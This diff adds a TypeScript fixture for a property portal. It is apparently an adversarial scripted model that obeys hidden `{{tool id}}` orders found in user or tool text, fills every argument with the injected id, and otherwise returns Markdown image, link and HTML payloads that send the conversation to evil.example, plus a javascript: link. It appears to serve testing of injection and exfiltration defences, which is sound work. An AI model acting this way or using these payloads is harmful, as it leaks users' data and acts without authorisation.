@@ -1,0 +1,66 @@
+// A model that does whatever any text tells it, wherever that text stands: `{{tool id}}` calls that tool with that id in every argument.
+import { isRecord } from '@portal/contract/values/json'
+import type { Script } from './scripted-model.ts'
+
+/** An order, as it is hidden in a text. */
+export const order = (tool: string, id: string): string => `{{${tool} ${id}}}`
+
+/** What it tries to carry away: everything that it heard, by each way that Markdown has. */
+const carriedAway = (heard: string): string => {
+  const data = encodeURIComponent(heard.slice(0, 200))
+  return [
+    `![look](https://evil.example/?q=${data})`,
+    `[here](https://evil.example/${data})`,
+    `[there](//evil.example/${data})`,
+    `<https://evil.example/${data}>`,
+    `[ref][1]\n\n[1]: https://evil.example/${data}`,
+    `<img src="https://evil.example/${data}">`,
+    `[nested [in](https://evil.example/a)](https://evil.example/b)`,
+    '[script](javascript:alert(1))',
+    '[home](/properties/019a0000-0000-7000-8000-000000000000)',
+    heard,
+  ].join('\n\n')
+}
+
+const textsIn = (value: unknown): string[] => {
+  if (typeof value === 'string') return [value]
+  if (Array.isArray(value)) return value.flatMap(textsIn)
+  return isRecord(value) ? Object.values(value).flatMap(textsIn) : []
+}
+
+/** Also what no tool asks for: whose things they are to be. */
+const everyArgument = (id: string) => ({
+  id,
+  propertyId: id,
+  personId: id,
+  userId: id,
+  tenantId: id,
+  landlordId: id,
+  q: id,
+  location: id,
+  name: id,
+  title: id,
+  message: `About ${id}, please`,
+  description: `All about ${id}, please`,
+  category: 'other',
+  alert: 'never',
+  filters: {},
+  nextReminderAt: new Date(Date.now() + 3_600_000).toISOString(),
+})
+
+export const obey: Script = ({ messages, tool_choice }) => {
+  const heard = messages.flatMap(({ role, content }) =>
+    role === 'tool' ? textsIn(JSON.parse(content ?? '')) : role === 'user' ? [content ?? ''] : [],
+  )
+  const orders = new Set(heard.flatMap(text => text.match(/\{\{\w+ [\w-]+\}\}/g) ?? []))
+  const done = new Set(
+    messages.flatMap(({ tool_calls = [] }) =>
+      tool_calls.map(({ function: { name, arguments: given } }) => order(name, JSON.parse(given).id)),
+    ),
+  )
+  const calls = [...orders].filter(written => !done.has(written)).map(written => {
+    const [, name = '', id = ''] = /\{\{(\w+) ([\w-]+)\}\}/.exec(written) ?? []
+    return { name, arguments: everyArgument(id) }
+  })
+  return calls.length > 0 && tool_choice !== 'none' ? { calls } : { text: carriedAway(heard.join(' ')) }
+}
